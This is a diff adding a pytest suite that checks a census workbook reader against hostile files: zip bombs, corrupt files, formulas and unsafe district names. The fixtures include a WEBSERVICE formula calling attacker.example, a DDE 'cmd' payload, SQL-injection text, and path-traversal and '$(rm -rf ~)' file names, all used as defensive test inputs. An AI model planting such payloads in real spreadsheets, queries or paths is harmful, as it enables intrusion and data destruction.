@@ -1,0 +1,197 @@
+"""Hostile and broken files at the reader: each refused with its rule code and a message that
+names the file and the reason, before calamine parses it; the harmless ones read safely."""
+
+from __future__ import annotations
+
+import zipfile
+
+import pytest
+import xlwt
+
+import config
+from flows.tasks import process_workbook
+from tests.factory import BASE_ORDER, household, write_workbook
+from tests.reliability import hostile
+from workbooks import guard
+from workbooks.error_report import district_slug, report_path
+from workbooks.reader import WorkbookError, read_workbook
+
+PROVINCE = config.load_province(config.DEFAULT_PROVINCE)
+
+
+def refused(path, code: str, *words: str) -> str:
+    with pytest.raises(WorkbookError) as info:
+        read_workbook(path)
+    message = str(info.value)
+    assert getattr(info.value, "code", "WB001") == code, message
+    assert message.startswith(path.name + ":"), message
+    for word in words:
+        assert word in message, message
+    return message
+
+
+def test_not_a_spreadsheet(tmp_path):
+    refused(hostile.not_a_spreadsheet(tmp_path / "a.xlsx"), "WB020", "not a spreadsheet")
+    refused(hostile.html_as_xls(tmp_path / "b.xls"), "WB020", "HTML")
+    (tmp_path / "empty.xlsx").write_bytes(b"")
+    refused(tmp_path / "empty.xlsx", "WB020", "empty")
+    with zipfile.ZipFile(tmp_path / "doc.xlsx", "w") as z:
+        z.writestr("word/document.xml", "<w:document/>")
+    refused(tmp_path / "doc.xlsx", "WB020", "without an Excel workbook")
+
+
+def test_truncated_and_corrupt(tmp_path):
+    refused(hostile.truncated(tmp_path / "cut.xlsx", tmp_path), "WB021", "truncated")
+    refused(hostile.corrupt(tmp_path / "bad.xlsx", tmp_path), "WB021", "corrupt")
+
+
+def test_zip_bomb_is_refused_before_it_inflates(tmp_path):
+    bomb = hostile.zip_bomb(tmp_path / "bomb.xlsx", tmp_path, megabytes=64)
+    assert bomb.stat().st_size < 1 << 20  # a small file on disk
+    refused(bomb, "WB022", "zip bomb", "xl/worksheets/sheet1.xml")
+    # Declared sizes that lie (inflated size stated as the compressed size) are caught by
+    # counting the bytes actually inflated.
+    liar = hostile.zip_bomb(tmp_path / "liar.xlsx", tmp_path, megabytes=64, lie=True)
+    info = zipfile.ZipFile(liar).getinfo("xl/worksheets/sheet1.xml")
+    assert info.file_size == info.compress_size
+    refused(liar, "WB022", "zip bomb")
+
+
+def test_oversized_part_by_declared_size(tmp_path, monkeypatch):
+    path = write_workbook(tmp_path / "d.xlsx", [household(i) for i in range(1, 50)])
+    monkeypatch.setenv("CENSUS_MAX_MEMBER_BYTES", "2000")
+    refused(path, "WB022", "2,000 a part")
+
+
+def test_password_protected(tmp_path):
+    refused(
+        hostile.password_protected(tmp_path / "locked.xlsx"), "WB023", "password-protected"
+    )
+
+
+def test_legacy_xls_still_reads(tmp_path):
+    """The compound-file check must not refuse a genuine .xls (also an OLE2 file)."""
+    book = xlwt.Workbook(encoding="utf-8")
+    ws = book.add_sheet("Danh sach")
+    from schemas.headers import BASE_LABELS
+
+    for c, key in enumerate(BASE_ORDER):
+        ws.write(0, c, BASE_LABELS[key][0])
+    for r in range(1, 4):
+        for c, key in enumerate(BASE_ORDER):
+            ws.write(r, c, household(r)[key])
+    book.save(str(tmp_path / "old.xls"))
+    assert (tmp_path / "old.xls").read_bytes()[:8] == guard.CFB_SIGNATURE
+    assert len(read_workbook(tmp_path / "old.xls").rows) == 3
+
+
+def test_row_limit(tmp_path, monkeypatch):
+    path = write_workbook(tmp_path / "many.xlsx", [household(i) for i in range(1, 301)])
+    assert len(read_workbook(path).rows) == 300  # under the default limit: loads
+    monkeypatch.setenv("CENSUS_MAX_ROWS", "250")
+    refused(path, "WB024", "too many rows", "250")
+
+
+def test_row_count_matches_the_sheet(tmp_path):
+    """The row counter sees every <row> even across inflate chunks (a big sheet)."""
+    rows = [household(i, note="x" * 300) for i in range(1, 5001)]
+    path = write_workbook(tmp_path / "big.xlsx", rows, title_rows=False, totals_row=False)
+    with zipfile.ZipFile(path) as z, path.open("rb") as fh:
+        member = z.getinfo("xl/worksheets/sheet1.xml")
+        assert member.file_size > 2 * guard._CHUNK
+        scan = guard._Scan(guard.Limits(), count_rows=True, check_text=True)
+        guard._inflate(path, fh, member, guard.Limits(), scan, 1 << 30)
+    assert scan.rows == 5001  # header + households
+
+
+def test_huge_strings(tmp_path):
+    # Longer than Excel allows but small in bytes: caught on the cells as read.
+    # (Excel libraries refuse to write such a cell, so the XML is edited.)
+    path = write_workbook(tmp_path / "long.xlsx", [household(1, note="PLACEHOLDER")])
+    hostile.replace_in_parts(path, b"PLACEHOLDER", b"a" * 40_000)
+    refused(path, "WB025", "40,000 characters")
+    # Megabytes in one cell: caught in the XML before calamine reads it.
+    path = write_workbook(tmp_path / "huge.xlsx", [household(1, note="PLACEHOLDER")])
+    hostile.replace_in_parts(path, b"PLACEHOLDER", b"b" * 3_000_000)
+    refused(path, "WB025", "xl/worksheets/sheet1.xml")
+    # Long but within Excel's limit: reads.
+    path = write_workbook(tmp_path / "ok.xlsx", [household(1, note="c" * 30_000)])
+    assert read_workbook(path).rows["note"].str.len().tolist() == [30_000]
+
+
+def test_control_characters_are_removed_and_reported(tmp_path):
+    rows = [
+        household(1, head_name="Lò\x07 Văn\x00 A", commune="Sín\x1b Thầu", village="Bản\tTá"),
+        household(2),
+    ]
+    path = hostile.xlsxwriter_workbook(tmp_path / "ctl.xlsx", rows)
+    read = read_workbook(path)
+    assert read.rows["head_name"].tolist() == ["Lò Văn A", "Lò Văn 2"]
+    assert read.rows["commune"].tolist() == ["Sín Thầu", "Sín Thầu"]
+    assert read.rows["village"].iloc[0] == "Bản\tTá"  # tab is kept
+    assert [n["code"] for n in read.notices if n["code"] == "WB027"] == ["WB027"]
+    load = process_workbook(path, 2019, PROVINCE)
+    assert len(load.households) == 2  # the commune matches once cleaned
+
+
+def test_formulas_are_read_as_cached_values_never_evaluated(tmp_path):
+    rows = [household(i) for i in range(1, 5)]
+    formulas = {
+        (0, "household_size"): ("=2+4", 6),  # cached value: read
+        (1, "household_size"): ("=2+4", None),  # no cached value: blank, never computed
+        (2, "village"): ('=WEBSERVICE("http://attacker.example/x")', "Bản Tá Miếu"),
+        (3, "village"): ("=cmd|' /C calc'!A0", "Bản Tá Miếu"),  # DDE: never run
+    }
+    path = hostile.xlsxwriter_workbook(tmp_path / "f.xlsx", rows, formulas=formulas)
+    assert b"WEBSERVICE" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
+    read = read_workbook(path)
+    assert read.rows["household_size"].fillna("<blank>").tolist() == ["6", "<blank>", "5", "5"]
+    assert read.rows["village"].tolist()[2:] == ["Bản Tá Miếu", "Bản Tá Miếu"]
+    load = process_workbook(path, 2019, PROVINCE)
+    assert sorted(load.households["household_id"]) == ["MN-000001", "MN-000003", "MN-000004"]
+    [code] = load.rejections.loc[load.rejections["household_id"] == "MN-000002", "rule_code"]
+    assert code == "HH008"  # household size missing: the formula was not evaluated
+
+
+def test_external_links_are_reported_never_followed(tmp_path):
+    path = hostile.with_external_link(tmp_path / "link.xlsx", tmp_path, [household(1)])
+    read = read_workbook(path)
+    assert len(read.rows) == 1
+    [notice] = [n for n in read.notices if n["code"] == "WB026"]
+    assert "never followed" in notice["detail"]
+
+
+def test_sql_looking_text_is_data(tmp_path):
+    rows = [
+        household(1, commune=hostile.SQL_TEXT),
+        household(2, head_name="Robert'); DROP TABLE private.households;--"),
+    ]
+    load = process_workbook(write_workbook(tmp_path / "sql.xlsx", rows), 2019, PROVINCE)
+    assert load.households["household_id"].tolist() == ["MN-000002"]
+    rejected = load.rejections[load.rejections["household_id"] == "MN-000001"]
+    assert rejected["rule_code"].tolist() == ["HH021"]
+    assert rejected["value"].tolist() == [hostile.SQL_TEXT]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../etc/passwd",
+        "..\\..\\Windows\\System32",
+        "/absolute/path",
+        "C:\\Users\\x",
+        "a\x00b",
+        "..",
+        "",
+        "Mường Nhé/../../..",
+        "~root",
+        "$(rm -rf ~)",
+    ],
+)
+def test_report_paths_never_leave_the_reports_folder(tmp_path, name):
+    slug = district_slug(name)
+    assert slug and all(c.isascii() and (c.isalnum() or c == "-") for c in slug), slug
+    reports = tmp_path / "reports"
+    path = report_path(reports, 2019, name)
+    assert path.resolve().parent == (reports / "2019").resolve()
+    assert path.name.endswith("-loi.xlsx")
